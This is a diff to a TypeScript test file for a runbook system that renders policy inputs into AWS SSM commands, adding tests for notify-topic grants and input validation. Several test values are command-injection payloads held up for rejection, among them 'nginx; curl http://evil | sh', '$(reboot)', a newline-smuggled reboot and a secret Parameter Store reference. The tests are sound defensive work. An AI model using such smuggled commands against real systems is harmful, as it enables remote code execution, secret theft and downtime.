@@ -1,5 +1,5 @@
 import type { AlertPolicy, Runbook } from '../api/v1alpha1/index.js';
-import { approvalTimeoutMs, grantFor, inputProblems, renderInputs, runbookProblems } from './runbooks.js';
+import { approvalTimeoutMs, grantFor, inputProblems, notifyAllowed, renderInputs, runbookProblems } from './runbooks.js';
 import { TemplateError, type TemplateContext } from './template.js';
 
 const runbook = (spec: Partial<Runbook['spec']> = {}): Runbook => ({
@@ -77,6 +77,28 @@ describe('grantFor', () => {
   });
 });
 
+describe('notify topics are granted by the runbook', () => {
+  const topic = 'arn:aws:sns:eu-west-1:111111111111:team-a-oncall';
+  const theirs = 'arn:aws:sns:eu-west-1:111111111111:team-b-oncall';
+  test('a policy naming a topic its runbook does not list is not granted, and may not announce', () => {
+    const p = policy({ notify: { topicArn: theirs, on: ['Failed'] } });
+    expect(grantFor(p, runbook({ notifyTopics: [topic] }), tenant)).toMatchObject({
+      ok: false,
+      reason: 'NotifyTopicNotGranted',
+      message: expect.stringContaining(theirs),
+    });
+    expect(grantFor(p, runbook(), tenant)).toMatchObject({ ok: false, reason: 'NotifyTopicNotGranted' });
+    expect(notifyAllowed(p, runbook({ notifyTopics: [topic] }), tenant)).toBe(false);
+  });
+  test('a granted topic is fine, but only while the namespace is granted the runbook', () => {
+    const p = policy({ notify: { topicArn: topic, on: ['Failed'] } });
+    expect(grantFor(p, runbook({ notifyTopics: [topic] }), tenant)).toMatchObject({ ok: true });
+    expect(notifyAllowed(p, runbook({ notifyTopics: [topic] }), tenant)).toBe(true);
+    expect(notifyAllowed(p, runbook({ notifyTopics: [topic] }), { 'kubernetes.io/metadata.name': 'team-a' })).toBe(false);
+    expect(notifyAllowed(p, undefined, tenant)).toBe(false);
+  });
+});
+
 describe('inputProblems', () => {
   test('inputs must be exactly the declared ones', () => {
     expect(inputProblems(policy(), runbook())).toEqual([]);
@@ -118,6 +140,29 @@ describe('renderInputs', () => {
     expect(renderInputs(policy(), runbook({ inputs: [{ name: 'service', allow: ['LeadingDash'] }] }), ctx({ service: '--now' }))).toEqual({
       service: '--now',
     });
+  });
+
+  test('literal text in a policy input is held to the input rule too, the default one when the runbook declares none', () => {
+    // The runbook input has no pattern and its parameter is widened: neither widens the input.
+    const open = runbook({
+      inputs: [{ name: 'service' }],
+      action: { ssm: { parameters: [{ name: 'commands', allowedPattern: '(?s).*', values: ['systemctl restart {{ inputs.service }}'] }] } },
+    });
+    for (const literal of ['nginx; curl http://evil | sh', 'nginx $(reboot)', 'nginx {{ labels.service }}; reboot']) {
+      expect(() => renderInputs(policy({ inputs: { service: literal } }), open, ctx({ service: 'x' }))).toThrow(/input service/);
+    }
+    expect(inputProblems(policy({ inputs: { service: 'nginx; curl http://evil | sh' } }), open)).toEqual([
+      expect.stringMatching(/inputs\.service: value .* does not match the allowlist/),
+    ]);
+    expect(inputProblems(policy({ inputs: { service: 'nginx' } }), open)).toEqual([]);
+  });
+
+  test('a policy input may not bring a Parameter Store reference the runbook does not contain, nor a control character', () => {
+    const open = runbook({ inputs: [{ name: 'service', allowedPattern: '(?s).*' }] });
+    const ref = policy({ inputs: { service: 'nginx {{ssm-secure:/prod/db-password}}' } });
+    expect(() => renderInputs(ref, open, ctx({}))).toThrow(/Parameter Store reference/);
+    expect(inputProblems(ref, open)).toEqual([expect.stringContaining('Parameter Store reference')]);
+    expect(() => renderInputs(policy({ inputs: { service: 'a\nreboot' } }), open, ctx({}))).toThrow(/U\+000A/);
   });
 
   test('an input the policy does not set is refused', () => {
